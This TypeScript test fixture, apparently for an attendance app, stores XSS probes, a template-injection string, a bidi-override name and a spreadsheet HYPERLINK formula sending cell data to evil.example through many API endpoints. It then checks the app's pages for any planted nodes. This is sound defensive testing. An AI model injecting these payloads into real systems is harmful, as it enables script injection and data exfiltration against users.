import type { Client } from '@smart-attendance/client';
import { zipOf } from '@smart-attendance/testing';
import { deskDepartment } from './rig/accounts';
import { untilTodayLasts } from './rig/site-clock';

/** Which nobody's page has, unless it made nodes of what somebody typed. */
export const plantedSelector = '[data-planted], script[src*="planted"], a[href^="javascript:" i], a[href^="data:" i]';

const markup = (where: string): string =>
  `${where} <img data-planted src=x onerror="alert('${where}')"><script data-planted>alert('${where}')</script>`;
/** 255 characters that are two UTF-16 units each. */
const emoji = '\u{1f600}'.repeat(255);
/** Reads "nimda.exe" as "exe.admin" where its direction spills; it is taken out where it is stored. */
const reversed = 'Alice\u202egnihton\u202c\u2066evil\u2069';
const formula = '=HYPERLINK("https://evil.example/?"&A1,"pay")';

/** Everything that somebody with a right to type can have stored. */
export const hostile = {
  firstName: markup('first'),
  lastName: `"'><svg data-planted onload=alert(2)>`,
  employeeId: '{{constructor.constructor("alert(3)")()}}',
  department: `${deskDepartment}</bdi><iframe data-planted srcdoc="<script>alert(4)</script>">`,
  position: 'javascript:alert(5)',
  notes: markup('note'),
  cameraName: markup('camera'),
  cameraLocation: `<a data-planted href="javascript:alert(6)">click</a>`,
  importedCamera: `<math data-planted><mtext></form><form><mglyph><style></math><img src onerror=alert(7)>`,
  formulaCamera: formula,
  reversedName: reversed,
  emojiName: emoji,
  webhookDescription: markup('webhook'),
  webhookUrl: 'https://hooks.example/%3Cimg%20data-planted%3E?a="><script/data-planted>alert(8)</script>',
  keyName: markup('key'),
  leaveType: markup('leave'),
  leaveNote: markup('why'),
  holiday: markup('holiday'),
  photoName: `${markup('photo')}.jpg`,
} as const;

export interface Planted {
  readonly personId: string;
  readonly emojiPersonId: string;
  readonly recordId: string;
  readonly cameraId: string;
  readonly webhookId: string;
  readonly calendarId: string;
  readonly jobId: string;
  /** In which the person is on leave. */
  readonly month: string;
}

/** Has all of it stored by the API, as anybody with the right would. */
export async function plantAll(api: Client): Promise<Planted> {
  const person = await api.post('/users', { body: { ...personWith('planted'), ...hostilePerson } });
  const emojiPerson = await api.post('/users', {
    body: { ...personWith('emoji'), first_name: hostile.emojiName, last_name: hostile.reversedName },
  });
  await untilTodayLasts();
  const checkIn = new Date().toISOString();
  const record = await api.post('/attendance', {
    body: { user_id: person.id, check_in: checkIn, notes: hostile.notes, location: hostile.cameraLocation },
  });
  await api.post('/attendance', { body: { user_id: emojiPerson.id, check_in: checkIn, notes: hostile.formulaCamera } });
  const rtsp = { rtsp_url: 'rtsp://192.0.2.1:554/planted' };
  const camera = await api.post('/cameras', {
    body: {
      ...rtsp,
      name: hostile.cameraName,
      location: hostile.cameraLocation,
      description: hostile.notes,
      zones: [
        {
          name: hostile.lastName,
          kind: 'watch',
          points: [
            [0, 0],
            [1, 0],
            [1, 1],
          ],
        },
      ],
    },
  });
  await importCameras(api, [hostile.importedCamera, hostile.formulaCamera, hostile.emojiName]);
  const webhook = await api.post('/webhooks', {
    body: { url: hostile.webhookUrl, description: hostile.webhookDescription, department: hostile.department },
  });
  const type = await api.post('/leave/types', { body: { name: hostile.leaveType } });
  const leaveDay = new Date(Date.now() + 40 * 86_400_000).toISOString().slice(0, 10);
  await api.post('/leave/requests', {
    body: { user_id: person.id, type_id: type.id, date_from: leaveDay, note: hostile.leaveNote },
  });
  const holidays = [{ date: leaveDay, name: hostile.holiday }];
  const calendar = await api.post('/holidays', { body: { name: hostile.cameraLocation, holidays } });
  await api.post('/api-keys', { body: { name: hostile.keyName, role: 'manager', department: hostile.department } });
  const archive = zipOf([{ name: hostile.photoName, content: Buffer.from('no photo') }]);
  const file = new File([new Uint8Array(archive)], 'photos.zip', { type: 'application/zip' });
  const job = await api.post('/users/import-photos', { body: { file } });
  return {
    personId: person.id,
    emojiPersonId: emojiPerson.id,
    recordId: record.id,
    cameraId: camera.id,
    webhookId: webhook.id,
    calendarId: calendar.id,
    jobId: job.id,
    month: leaveDay.slice(0, 7),
  };
}

const hostilePerson = {
  first_name: hostile.firstName,
  last_name: hostile.lastName,
  employee_id: hostile.employeeId,
  department: hostile.department,
  position: hostile.position,
};

function personWith(name: string) {
  return {
    first_name: name,
    last_name: name,
    email: `${name}"><img/src/onerror=alert(9)>@desk.example`,
    employee_id: `X-${name}`,
    password: 'a password of the specs',
  };
}

async function importCameras(api: Client, names: readonly string[]): Promise<void> {
  const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
  const rows = names.map((name, index) => [name, `rtsp://192.0.2.2:554/planted-${index}`].map(quoted).join(','));
  const body = ['name,rtsp_url', ...rows].join('\r\n');
  await api.post('/cameras/import', { body, headers: { 'Content-Type': 'text/csv' } });
}
